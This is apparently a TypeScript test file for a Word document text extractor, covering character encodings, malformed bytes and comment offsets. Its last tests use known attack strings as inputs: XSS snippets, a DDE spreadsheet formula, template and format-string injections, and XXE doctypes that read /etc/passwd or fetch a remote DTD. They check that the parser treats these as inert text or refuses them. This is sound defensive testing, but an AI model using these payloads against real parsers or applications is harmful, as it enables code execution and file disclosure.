import { describe, expect, test } from 'vitest'
import { commented } from '../../../helpers/commented.ts'
import { makeDocx, makeZip, p, paragraph, r } from '../../../helpers/docx.ts'
import { wordsOrRefusal } from '../../../helpers/refusal.ts'

const head = (encoding: string) =>
  `<?xml version="1.0"${encoding && ` encoding="${encoding}"`}?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">`
const documentOf = (text: string, encoding = '') =>
  `${head(encoding)}<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`
const withMain = (bytes: Uint8Array | string) => makeDocx({ body: '', parts: { 'word/document.xml': bytes } })

function utf16(text: string, bigEndian: boolean): Uint8Array {
  const bytes = new Uint8Array(Buffer.from(text, 'utf16le'))
  return bigEndian ? bytes.map((_, at, all) => all[at ^ 1] ?? 0) : bytes
}

/** The text with some of its characters, by code, as single bytes. */
function raw(text: string, ...codes: readonly number[]): Uint8Array {
  const [before = '', after = ''] = documentOf(text).split('@')
  return new Uint8Array(Buffer.concat([Buffer.from(before), Uint8Array.from(codes), Buffer.from(after)]))
}

describe('the words are right in whatever way they are written', () => {
  test.each<[string, Uint8Array | string, string]>([
    ['UTF-16 with its mark', utf16(`\ufeff${documentOf('Zoë 😀', 'UTF-16')}`, false), 'Zoë 😀'],
    ['UTF-16 with its mark, the other way round', utf16(`\ufeff${documentOf('Zoë 😀', 'UTF-16')}`, true), 'Zoë 😀'],
    ['UTF-16 without a mark', utf16(documentOf('Zoë 😀'), false), 'Zoë 😀'],
    ['UTF-16 without a mark, the other way round', utf16(documentOf('Zoë 😀'), true), 'Zoë 😀'],
    ['UTF-16 with half a character', utf16(documentOf('a\ud83d b', 'UTF-16'), false), 'a\ufffd b'],
    ['UTF-16 that is broken off', utf16(`\ufeff${documentOf('Zoë')}`, false).subarray(0, -1), 'damaged'],
    ['UTF-8 with its mark', `\ufeff${documentOf('Zoë 😀')}`, 'Zoë 😀'],
    ['UTF-8 that says it is UTF-16', documentOf('Zoë 😀', 'UTF-16'), 'Zoë 😀'],
    ['a Western encoding', Buffer.from(documentOf('Zoë', 'iso-8859-1'), 'latin1'), 'Zoë'],
    ['an encoding that nobody knows', documentOf('Zoë', 'x-evil'), 'Zoë'],
    ['UTF-8 with a byte too many', raw('a@b', 0x80), 'a\ufffdb'],
    ['UTF-8 with bytes that end too soon', raw('a@b', 0xf0, 0x9f), 'a\ufffdb'],
    ['UTF-8 written longer than it need be', raw('a@b', 0xc0, 0xaf), 'a\ufffd\ufffdb'],
    ['UTF-8 with half a pair', raw('a@b', 0xed, 0xa0, 0xbd), 'a\ufffd\ufffd\ufffdb'],
    ['bytes that never stand in UTF-8', raw('a@b', 0xff, 0xfe), 'a\ufffd\ufffdb'],
    ['a NUL', raw('a@b', 0), 'a\u0000b'],
    ['control characters', documentOf('a\u0001\u0008\u001fb'), 'a\u0001\u0008\u001fb'],
    ['references', documentOf('&#90;o&#xEB; &#x1F600;&#x1f600;'), 'Zoë 😀😀'],
    ['a pair in two references', documentOf('&#xD83D;&#xDE00;'), '😀'],
    ['a reference to half a pair', documentOf('a&#xD83D;b'), 'a\ud83db'],
    ['a reference to NUL', documentOf('a&#0;b'), 'a\u0000b'],
    ['a reference beyond Unicode', documentOf('a&#x110000;&#9999999;b'), 'a&#x110000;&#9999999;b'],
    ['entities that nobody knows', documentOf('a&evil;&lt&amp;lt;b'), 'a&evil;&lt&lt;b'],
    ['CDATA, comments and instructions', documentOf('<![CDATA[a<b]]>c<!-- d -->e<?f g?>'), 'a<bce'],
    ['a comment with the end of everything in it', documentOf('a<!-- </w:t></w:document> -->b'), 'ab'],
    ['signs that turn the text round', documentOf('a\u202ecba\u202c\u2066x\u2069'), 'a\u202ecba\u202c\u2066x\u2069'],
    [
      'joiners and marks',
      documentOf('👩\u200d👩\u200d👧 e\u0301\u0301\u200b\ufeff'),
      '👩\u200d👩\u200d👧 e\u0301\u0301\u200b\ufeff',
    ],
  ])('%s', (_, main, words) => {
    const file = withMain(typeof main === 'string' ? main : new Uint8Array(main))
    expect(wordsOrRefusal(file)).toEqual(words === 'damaged' ? words : [words])
    if (words !== 'damaged') expect(commented(file).faults.filter(fault => !fault.startsWith('xml'))).toEqual([])
  })
})

test('the words are right where their part is not called .xml', () => {
  const types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
  const relationships =
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" ' +
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/text.bin"/></Relationships>'
  const fileOf = (main: Uint8Array) =>
    makeZip({ '[Content_Types].xml': types, '_rels/.rels': relationships, 'word/text.bin': main })
  expect(wordsOrRefusal(fileOf(utf16(documentOf('Zoë 😀'), false)))).toEqual(['Zoë 😀'])
  const broken = fileOf(raw('a@b c', 0xf0, 0x9f))
  expect(wordsOrRefusal(broken)).toEqual(['a\ufffdb c'])
  expect(commented(broken, [{ block: 0, start: 2, end: 3 }]).faults).toEqual([])
})

test('comments stand on whole characters beside joiners, marks and signs that turn the text round', () => {
  const text = '\u202eab\u202c 👩\u200d👩\u200d👧 e\u0301\u0301 \u200bword\ufeff'
  const at = [
    [0, 4],
    [5, 13],
    [14, 17],
    [18, 24],
  ].map(([start = 0, end = 0]) => ({ block: 0, start, end }))
  expect(commented(makeDocx({ body: p(text) }), at).faults).toEqual([])
})

test('scripts, links and codes in the words are words', () => {
  const attacks = [
    '<script>alert(1)</script>',
    'javascript:alert(1)',
    '=cmd|"/c calc"!A1',
    '{{constructor.constructor("x")()}}',
    '$'.concat('{x}'),
    '%s%n',
  ]
  const file = makeDocx({ body: attacks.map(attack => p(attack)).join('') })
  expect(wordsOrRefusal(file)).toEqual(attacks)
  expect(commented(file).faults).toEqual([])
})

describe('a document type is refused, whatever it declares', () => {
  test.each([
    ['nothing', '<!DOCTYPE w>'],
    [
      'entities of entities',
      '<!DOCTYPE w [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    ],
    ['a file', '<!DOCTYPE w [<!ENTITY c SYSTEM "file:///etc/passwd">]>'],
    ['an address', '<!DOCTYPE w SYSTEM "https://example.org/evil.dtd">'],
    ['a parameter', '<!DOCTYPE w [<!ENTITY % c SYSTEM "https://example.org/evil.dtd"> %c;]>'],
    ['something with brackets in it', '<!DOCTYPE w [<!ENTITY c "]><w:p/>">]>'],
  ])('%s', (_, doctype) => {
    expect(wordsOrRefusal(withMain(documentOf('&c;').replace('?>', `?>${doctype}`)))).toBe('damaged')
    const styles = `${doctype}<w:styles/>`
    expect(
      wordsOrRefusal(makeDocx({ body: paragraph(r('Words')), styles: '', parts: { 'word/styles.xml': styles } })),
    ).toEqual(['Words'])
  })
})
